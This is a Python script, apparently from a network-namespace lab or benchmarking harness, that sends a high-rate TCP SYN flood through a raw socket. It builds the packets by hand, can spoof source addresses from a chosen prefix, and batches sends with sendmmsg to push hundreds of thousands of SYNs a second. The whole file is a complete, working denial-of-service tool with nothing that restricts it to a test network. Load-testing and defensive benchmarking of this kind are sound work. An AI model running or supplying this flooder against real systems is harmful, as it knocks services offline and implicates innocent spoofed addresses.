"""Send a SYN flood from one IPv4 address (or spoofed ones), through a raw socket; print what was sent as JSON.

Run inside the flooding namespace (as root):
    synflood.py SRC DST PORT --duration 5 [--rate 20000] [--count N]

Every SYN has its own source port and sequence number (a new flow for
conntrack each time, as a flood's are). Nothing answers back: the flooder
never completes a handshake. Packets are built once (a pool of distinct
SYNs) and sent in batches with sendmmsg(2), so one process can push a few
hundred thousand SYNs a second; ``--rate 0`` sends as fast as it can.
Printed: {"sent", "elapsed", "per_sec", "send_errors", "cpu_s", "user_s"} (CPU of the sending loop).
"""

import argparse
import ctypes
import ctypes.util
import ipaddress
import json
import random
import resource
import socket
import struct
import time

BATCH = 256


class IOVec(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]


class MsgHdr(ctypes.Structure):
    _fields_ = [('name', ctypes.c_void_p), ('namelen', ctypes.c_uint32), ('iov', ctypes.POINTER(IOVec)),
                ('iovlen', ctypes.c_size_t), ('control', ctypes.c_void_p), ('controllen', ctypes.c_size_t),
                ('flags', ctypes.c_int)]


class MMsgHdr(ctypes.Structure):
    _fields_ = [('hdr', MsgHdr), ('len', ctypes.c_uint)]


def checksum(data):
    if len(data) % 2:
        data += b'\0'
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def syn(src, dst, sport, dport, seq):
    """An IPv4 packet (header included) carrying a TCP SYN with an MSS option."""
    options = struct.pack('!BBH', 2, 4, 1460)
    tcp = struct.pack('!HHIIBBHHH', sport, dport, seq, 0, (5 + len(options) // 4) << 4, 0x02, 64240, 0, 0) + options
    pseudo = src + dst + struct.pack('!BBH', 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack('!H', checksum(pseudo + tcp)) + tcp[18:]
    ident = sport ^ (seq & 0xffff)
    header = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), ident, 0, 64, socket.IPPROTO_TCP, 0, src, dst)
    header = header[:10] + struct.pack('!H', checksum(header)) + header[12:]
    return header + tcp


def pool(src, dst, port, size, spoof=None):
    """SIZE distinct SYNs from SRC, or (SPOOF, a prefix) each from a random address of SPOOF."""
    dst = socket.inet_aton(dst)
    rng = random.Random(17)
    ports = list(range(1024, 65536))
    rng.shuffle(ports)
    if spoof:
        net = ipaddress.ip_network(spoof)
        sources = [socket.inet_aton(str(net[rng.randrange(1, net.num_addresses - 1)])) for _index in range(size)]
    else:
        sources = [socket.inet_aton(src)] * size
    return [syn(sources[i], dst, ports[i % len(ports)], port, rng.getrandbits(32)) for i in range(size)]


def batches(packets, dst):
    """Ready-made mmsghdr arrays of BATCH packets each (the buffers kept alive with them)."""
    libc = ctypes.CDLL(ctypes.util.find_library('c'), use_errno=True)
    address = ctypes.create_string_buffer(struct.pack('=HH4s8x', socket.AF_INET, 0, socket.inet_aton(dst)), 16)
    out = []
    for start in range(0, len(packets) - BATCH + 1, BATCH):
        buffers = [ctypes.create_string_buffer(p, len(p)) for p in packets[start:start + BATCH]]
        iovs = (IOVec * BATCH)(*[IOVec(ctypes.cast(b, ctypes.c_void_p), len(b)) for b in buffers])
        msgs = (MMsgHdr * BATCH)()
        for index in range(BATCH):
            msgs[index].hdr.name = ctypes.cast(address, ctypes.c_void_p)
            msgs[index].hdr.namelen = 16
            msgs[index].hdr.iov = ctypes.pointer(iovs[index])
            msgs[index].hdr.iovlen = 1
        out.append((msgs, iovs, buffers))
    return libc, address, out


def main():
    parser = argparse.ArgumentParser(description=__doc__.split('\n', maxsplit=1)[0])
    parser.add_argument('src')
    parser.add_argument('dst')
    parser.add_argument('port', type=int)
    parser.add_argument('--duration', type=float, default=5.0)
    parser.add_argument('--rate', type=float, default=0.0, help='SYNs per second (0: as fast as possible)')
    parser.add_argument('--count', type=int, default=0, help='stop after this many SYNs (0: no limit)')
    parser.add_argument('--pool', type=int, default=64512, help='distinct SYNs to cycle through')
    parser.add_argument('--spoof', help='a prefix: each SYN from a random address of it (SRC is not used)')
    args = parser.parse_args()
    libc, _address, ready = batches(pool(args.src, args.dst, args.port, max(BATCH, args.pool), args.spoof), args.dst)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    fd = sock.fileno()
    sent = errors = 0
    usage = resource.getrusage(resource.RUSAGE_SELF)
    start = time.monotonic()
    end = start + args.duration
    index = 0
    while True:
        now = time.monotonic()
        if now >= end or (args.count and sent >= args.count):
            break
        if args.rate:
            ahead = start + sent / args.rate - now
            if ahead > 0:
                time.sleep(min(ahead, end - now))
                continue
        msgs = ready[index % len(ready)][0]
        index += 1
        want = BATCH if not args.count else min(BATCH, args.count - sent)
        done = libc.sendmmsg(fd, msgs, want, 0)
        if done < 0:
            errors += 1     # ENOBUFS: the queue was full; try again
            continue
        sent += done
    elapsed = time.monotonic() - start
    done = resource.getrusage(resource.RUSAGE_SELF)
    # the CPU of the sending loop alone (building the pool is left out); on a veth it includes the
    # receiving namespace's softirq work that ran in this process's context
    cpu = (done.ru_utime - usage.ru_utime) + (done.ru_stime - usage.ru_stime)
    print(json.dumps({'sent': sent, 'elapsed': round(elapsed, 3), 'per_sec': round(sent / elapsed),
                      'send_errors': errors, 'cpu_s': round(cpu, 3),
                      'user_s': round(done.ru_utime - usage.ru_utime, 3)}))


if __name__ == '__main__':
    main()
